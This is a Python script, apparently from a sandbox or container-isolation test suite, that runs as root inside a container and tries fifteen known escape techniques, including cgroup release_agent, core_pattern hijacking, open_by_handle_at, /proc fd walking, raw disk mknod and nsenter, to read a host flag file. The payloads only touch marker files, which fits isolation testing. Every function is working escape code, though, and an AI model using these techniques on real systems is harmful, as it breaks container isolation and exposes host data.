# SPDX-License-Identifier: Apache-2.0
"""Known ways out of containers, each tried for what it is after: a file of the host that holds a flag.

Runs inside, as root. Arguments: the flag's path, a directory that is on the host alone, where a command that the host
was made to run would leave a file, and the name of an abstract socket of the host. Prints what each brought home as
JSON: text of the flag where it was read, "reached" for a device or a socket of the host, else why not.
"""

import ctypes
import json
import os
import resource
import signal
import socket
import struct
import subprocess
import sys
from collections.abc import Callable

flag, marks, abstract = sys.argv[1:]
libc = ctypes.CDLL(None, use_errno=True)
_OPEN_BY_HANDLE_AT, _NAME_TO_HANDLE_AT, _SPLICE_PAGES = 304, 303, 16
_SOCKETS = ("docker.sock", "containerd/containerd.sock", "crio/crio.sock", "podman/podman.sock")
_HELPERS = (
    "/proc/sys/kernel/core_pattern",
    "/proc/sys/kernel/modprobe",
    "/proc/sys/kernel/poweroff_cmd",
    "/sys/kernel/uevent_helper",
)
_DISKS = ("b 8 0", "b 8 1", "b 252 0", "b 253 0", "b 254 0", "b 254 1", "b 259 0", "b 7 0")


def read(path: str | bytes) -> str:
    with open(path) as file:
        return file.read(1000)


def shell(command: str) -> str:
    ended = subprocess.run(
        ["sh", "-c", command], capture_output=True, text=True, errors="replace", timeout=20
    )
    return (ended.stdout + ended.stderr)[-2000:]


def first_found(paths: list[str]) -> str:
    """What is read through the first path that leads to the flag."""
    why = "nothing"
    for path in paths:
        try:
            return read(path)
        except (OSError, UnicodeDecodeError) as error:
            why = str(error)
    return why


def step_out_of_chroot() -> str:
    """CAP_SYS_CHROOT: a directory above the new root is kept, and walked up from."""
    os.makedirs("/tmp/jail", exist_ok=True)
    above = os.open("/", os.O_RDONLY)
    os.chroot("/tmp/jail")
    os.fchdir(above)
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    return read(flag)


def walk_processes() -> str:
    pids = [name for name in os.listdir("/proc") if name.isdigit()]
    return first_found(
        [f"/proc/{pid}/{link}{flag}" for pid in pids for link in ("root", "cwd", "cwd/../../../..")]
    )


def walk_open_files() -> str:
    """CVE-2024-21626."""
    up = "/.." * 16
    return first_found([f"/proc/{pid}/fd/{n}{up}{flag}" for pid in (1, "self") for n in range(64)])


def open_by_handle() -> str:
    """The "shocker": inode 2 is the root of the file system on which a mount's source lies."""
    said = []
    for path in ("/run/atoll/agent", "/run/atoll/control", "/usr", "/etc/hosts", "/"):
        mount = os.open(path, os.O_RDONLY)
        for kind in (1, 2):
            handle = ctypes.create_string_buffer(struct.pack("IiII", 8, kind, 2, 0) + bytes(64))
            found = libc.syscall(_OPEN_BY_HANDLE_AT, mount, handle, os.O_RDONLY | os.O_DIRECTORY)
            if found >= 0:
                with open(os.open(flag.lstrip("/"), os.O_RDONLY, dir_fd=found)) as file:
                    return file.read()
            said.append(os.strerror(ctypes.get_errno()))
    return " ".join(sorted(set(said)))


def read_disks() -> str:
    for directory in ("/tmp", "/dev", "/dev/shm"):
        for number in _DISKS:
            shell(f"rm -f {directory}/disk; mknod {directory}/disk {number}")
            try:
                if os.read(os.open(f"{directory}/disk", os.O_RDONLY), 512):
                    return "reached"
            except OSError:
                continue
    return "nothing"


def ask_daemons() -> str:
    for directory in ("/run", "/var/run"):
        for name in _SOCKETS:
            try:
                socket.socket(socket.AF_UNIX).connect(f"{directory}/{name}")
            except OSError:
                continue
            return "reached"
    return "nothing"


def ask_abstract_socket() -> str:
    """CVE-2020-15257."""
    socket.socket(socket.AF_UNIX).connect(f"\0{abstract}")
    return "reached"


def release_agent() -> str:
    """CVE-2022-0492: a user namespace's root, a hierarchy of version 1, and a program for the host to run."""
    return shell(
        'for o in rdma memory pids misc devices; do unshare -UrmC sh -c "mkdir -p /tmp/c; '
        f"mount -t cgroup -o $o x /tmp/c && mkdir -p /tmp/c/x && echo /bin/touch {marks}/agent > "
        "/tmp/c/release_agent && echo 1 > /tmp/c/x/notify_on_release && sh -c 'echo \\$\\$ > /tmp/c/x/cgroup.procs'\""
        "; done"
    )


def name_helpers() -> str:
    """Programs that a kernel runs for itself, outside of every namespace. CVE-2022-0811 among many."""
    for path in _HELPERS:
        shell(
            f"echo '|/bin/touch {marks}/helper' > {path}; echo /bin/touch {marks}/helper > {path}"
        )
    pid = os.fork()
    if pid == 0:
        resource.setrlimit(resource.RLIMIT_CORE, resource.getrlimit(resource.RLIMIT_CORE)[1:] * 2)
        os.kill(os.getpid(), signal.SIGSEGV)
    os.waitpid(pid, 0)
    return "nothing"


def register_interpreter() -> str:
    return shell(
        "mount -t binfmt_misc x /proc/sys/fs/binfmt_misc; "
        f"echo ':x:M::\\x7fELF::{marks}/x:C' > /proc/sys/fs/binfmt_misc/register"
    )


def enter_namespaces() -> str:
    return shell(f"nsenter -t 1 -a cat {flag}; nsenter --mount=/proc/1/ns/mnt cat {flag}")


def nest_namespaces() -> str:
    """CVE-2023-0386, CVE-2021-3493, CVE-2022-0185: what a user namespace's root may mount."""
    return shell(
        "unshare -Urm sh -c 'mkdir -p /tmp/l /tmp/u /tmp/w /tmp/m; mount --bind / /tmp/m; mount -t proc x /tmp/m; "
        "mount -t overlay x -o lowerdir=/,upperdir=/tmp/u,workdir=/tmp/w /tmp/m; mount -t ext4 /dev/vda /tmp/l; "
        f"cat /tmp/m{flag} /tmp/l{flag} {flag}'"
    )


def follow_links() -> str:
    os.makedirs("/tmp/links", exist_ok=True)
    shell(
        f"ln -sfn /proc/1/root/..{flag} /tmp/links/a; ln -sfn ../../../../../..{flag} /tmp/links/b"
    )
    return first_found(["/tmp/links/a", "/tmp/links/b"])


def load_module() -> str:
    return shell(
        "insmod /usr/lib/modules/*/kernel/fs/*.ko* || modprobe -v dummy; ls /sys/module/dummy"
    )


def debug_kernel() -> str:
    return shell("cat /sys/kernel/debug/sched/debug /sys/kernel/tracing/available_tracers /dev/mem")


WAYS: dict[str, Callable[[], str]] = {
    way.__name__: way
    for way in (
        step_out_of_chroot, walk_processes, walk_open_files, open_by_handle, read_disks, ask_daemons,
        ask_abstract_socket, release_agent, name_helpers, register_interpreter, enter_namespaces, nest_namespaces,
        follow_links, load_module, debug_kernel,
    )
}  # fmt: skip


def attempt(way: Callable[[], str]) -> str:
    """In a process of its own: one changes its root, another its namespaces."""
    reader, writer = os.pipe()
    pid = os.fork()
    if pid == 0:
        try:
            brought = way()
        except (OSError, subprocess.SubprocessError) as error:
            brought = str(error)
        os.write(writer, brought.encode()[:4000])
        os._exit(0)
    os.close(writer)
    with open(reader, errors="replace") as file:
        brought = file.read()
    os.waitpid(pid, 0)
    return brought


if __name__ == "__main__":
    print(json.dumps({name: attempt(way) for name, way in WAYS.items()}))
